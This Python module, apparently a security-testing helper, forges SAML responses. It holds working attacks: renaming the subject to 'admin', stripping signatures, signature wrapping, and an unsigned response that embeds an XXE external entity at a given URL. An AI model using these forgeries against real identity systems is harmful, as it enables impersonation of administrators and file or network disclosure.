"""Forged assertions: what an attacker can do to a SAML response without the key that signs it, and a message that nobody signed."""

from __future__ import annotations

import base64
from copy import deepcopy
from dataclasses import replace

from lxml import etree

from runbook_lib.webclient.response import Form

SIGNATURE, NAME_ID = "{http://www.w3.org/2000/09/xmldsig#}Signature", "{urn:oasis:names:tc:SAML:2.0:assertion}NameID"
EXTENSIONS = "{urn:oasis:names:tc:SAML:2.0:protocol}Extensions"
ENTITY = '<!DOCTYPE r [<!ENTITY e SYSTEM "{}">]><p:Response xmlns:p="urn:oasis:names:tc:SAML:2.0:protocol" ID="_e" Version="2.0">&e;</p:Response>'


def forged(form: Form, how: str) -> Form:
    """Return the form with its assertion forged, which takes no signing key. `how`: a word of `FORGERIES`. Raises ValueError where it cannot be."""
    message = etree.fromstring(base64.b64decode(form.fields["SAMLResponse"]), etree.XMLParser(resolve_entities=False, no_network=True))
    return replace(form, fields={**form.fields, "SAMLResponse": base64.b64encode(etree.tostring(FORGERIES[how](message))).decode()})


def naming(url: str) -> dict[str, str]:
    """Return the fields of an unsigned SAML response whose text is an external entity at `url`."""
    return {"SAMLResponse": base64.b64encode(ENTITY.format(url).encode()).decode()}


def _renamed(message: etree._Element) -> etree._Element:
    """Return the message with the name `admin`, all else as it was."""
    for name in message.iter(NAME_ID):
        name.text = "admin"
    return message


def _unsigned(message: etree._Element) -> etree._Element:
    """Return the message without its signatures."""
    etree.strip_elements(message, SIGNATURE, with_tail=False)
    return message


def _wrapped(message: etree._Element) -> etree._Element:
    """Return a message with the name `admin`, which carries the signed one in its extensions and bears its signature (signature wrapping).

    It deceives who takes a valid signature for one over the whole. Raises ValueError when the message itself is not signed.
    """
    signature = message.find(SIGNATURE)
    if signature is None:
        raise ValueError("the response itself bears no signature that could be moved")
    place, moved, outer = message.index(signature), deepcopy(signature), _renamed(_unsigned(deepcopy(message)))
    signature.tag, moved.tail = "moved", None
    etree.strip_elements(message, "moved", with_tail=False)  # what is left is what the signature covers, to the letter
    for number, one in enumerate(outer.iterfind(".//*[@ID]")):
        one.set("ID", f"_forged-{number}")
    outer.set("ID", "_forged")
    extensions = etree.Element(EXTENSIONS)
    extensions.append(message)
    outer[place:place] = [moved, extensions]
    return outer


FORGERIES = {"name": _renamed, "signature": _unsigned, "wrapped": _wrapped}
